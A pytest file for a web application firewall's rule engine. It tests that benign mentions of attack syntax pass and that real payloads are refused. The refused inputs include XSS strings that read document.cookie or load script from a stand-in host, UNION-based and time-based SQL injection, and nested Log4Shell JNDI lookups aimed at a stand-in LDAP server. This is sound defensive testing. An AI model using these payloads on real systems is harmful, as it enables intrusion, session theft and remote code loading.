"""What is named in a sentence or a search, and does nothing: a tag, a function, a lookup; and what does something after all."""

from __future__ import annotations

import time
from functools import partial

import pytest

from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts import facts_of
from bascule.waf.logic.facts.compiles import is_no_script
from bascule.waf.logic.values import Value
from tests.support.linear import assert_linear


@pytest.fixture(scope="module")
def standard() -> Logic:
    return Logic.load("standard")


@pytest.mark.parametrize(
    "text",
    [
        "<script> tag",
        "<script> tag in html",
        "sleep(5) in python",
        "sleep(1000) in php not working?",
        "sys.objects vs information_schema",
        "information_schema.tables vs pg_catalog",
        "${jndi:ldap://...} in our logs - are we hacked?",
        "Log4j reads ${jndi:ldap://...} style lookups, hence the CVE. Update now!",
    ],
)
def test_it_does_nothing(standard: Logic, text: str) -> None:
    assert not standard.judge([Value("query", b"q", text.encode())])


@pytest.mark.parametrize(
    "text",
    [
        "<script> tag</script><script>alert(1)</script>",
        "<script> alert(1)",
        "<script> tag, new Image",
        "<script> tag, alert`1`",
        "<script> x=document.cookie",
        "<script> tag <img src=x onerror=alert(1)>",
        "<script src=//192.0.2.1/a.js> tag",
        "sleep(5) in (1)",
        "sleep(5) in python or 1=1",
        "1 and sleep(5) in python",
        "' or sleep(5) in python -- ",
        "sleep(5)",
        "1 union select table_name from information_schema.tables t_1 -- sys.objects vs information_schema",
        "-1 union select _utf8 0x41 col_1, 2 from users -- information_schema.tables vs pg_catalog",
        "${jndi:ldap://192.0.2.1/a}",
        "${jndi:ldap://...} ${jndi:ldap://192.0.2.1/a}",
        "${jndi:ldap://...192.0.2.1/a}",
        "${jndi:ldap://.../a.example.org/b}",
        "${${jndi:ldap://...}jndi:ldap://192.0.2.1/a}",
        "${jndi:${jndi:ldap://...}ldap://192.0.2.1/a}",
    ],
)
def test_what_does_something_is_refused(standard: Logic, text: str) -> None:
    assert standard.judge([Value("query", b"q", text.encode())])


@pytest.mark.parametrize("unit", ["<script> a ", "sleep(5) in a ", "${jndi:ldap://...} ", "${jndi:", "a ", "<script>"])
def test_time_is_linear(unit: str) -> None:
    assert_linear(partial(facts_of, place="query"), unit.encode())


def test_blanks_in_a_script_element_are_read_once() -> None:
    began = time.process_time()
    assert not is_no_script(b" " * 60_000 + b"(")
    assert time.process_time() - began < 0.1
